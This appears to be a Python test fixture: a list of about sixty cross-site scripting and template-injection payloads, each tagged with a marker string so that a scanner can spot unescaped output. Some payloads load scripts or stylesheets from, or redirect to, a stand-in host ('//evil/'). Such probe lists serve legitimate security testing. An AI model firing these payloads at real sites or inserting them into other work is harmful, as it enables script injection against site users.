"""Sixty ways in which text has become script elsewhere. Each holds MARK, so that it can be found back on a page."""

MARK = "zxq"

PAYLOADS = [
    f"<script>{MARK}(1)</script>", f"<ScRiPt>{MARK}(1)</sCrIpT>", f"<script src=//evil/{MARK}></script>", f"</title><script>{MARK}</script>",
    f"</textarea><script>{MARK}</script>", f"</style><script>{MARK}</script>", f"--><script>{MARK}</script>", f"]]><script>{MARK}</script>",
    f"\"><script>{MARK}</script>", f"'><script>{MARK}</script>", f"<img src=x onerror={MARK}(1)>", f"<img src=x onerror=\"{MARK}(1)\">",
    f"<img/src=x/onerror={MARK}(1)>", f"<IMG SRC=x ONERROR={MARK}(1)>", f"\"><img src=x onerror={MARK}>", f"' onmouseover='{MARK}(1)",
    f"\" onmouseover=\"{MARK}(1)", f"\" autofocus onfocus={MARK}(1) x=\"", f"' autofocus onfocus={MARK}(1) x='", f"` onmouseover={MARK}(1)",
    f"<svg onload={MARK}(1)>", f"<svg/onload={MARK}(1)>", f"<svg><script>{MARK}</script></svg>", f"<svg><animate onbegin={MARK} attributeName=x>",
    f"<svg><a xlink:href=\"javascript:{MARK}\">x</a>", f"<math href=\"javascript:{MARK}\">x", f"<math><mtext><img src=x onerror={MARK}>",
    f"<body onload={MARK}(1)>", f"<iframe src=javascript:{MARK}>", f"<iframe srcdoc=\"<script>{MARK}</script>\">", f"<object data=javascript:{MARK}>",
    f"<embed src=javascript:{MARK}>", f"<base href=//evil/{MARK}>", f"<link rel=stylesheet href=//evil/{MARK}>",
    f"<meta http-equiv=refresh content=0;url=//evil/{MARK}>", f"<form action=//evil/{MARK}><input type=submit>", f"<input onfocus={MARK} autofocus>",
    f"<details open ontoggle={MARK}>", f"<video><source onerror={MARK}>", f"<audio src=x onerror={MARK}>", f"<marquee onstart={MARK}>",
    f"<a href=javascript:{MARK}(1)>x</a>", f"<a href=\" javascript:{MARK}\">x</a>", f"<a href=\"java\tscript:{MARK}\">x</a>",
    f"<a href=data:text/html,{MARK}>x</a>", f"javascript:{MARK}(1)", f"data:text/html,<script>{MARK}</script>",
    f"<style>@import '//evil/{MARK}'</style>",
    f"<div style=\"background:url(//evil/{MARK})\">", f"<template><script>{MARK}</script></template>",
    f"<noscript><img src=x onerror={MARK}></noscript>",
    f"{{{{ {MARK} }}}}", f"{{% print {MARK} %}}", f"${{{MARK}}}", f"&lt;script&gt;{MARK}&lt;/script&gt;", f"&#60;script&#62;{MARK}&#60;/script&#62;",
    f"\u003cscript\u003e{MARK}\u003c/script\u003e", f"\uff1cscript\uff1e{MARK}\uff1c/script\uff1e", f"<!--<img src=\"--><img src=x onerror={MARK}>",
    f"<<script>{MARK}//<</script>", f"%(name)s {MARK} %s",
]  # fmt: skip
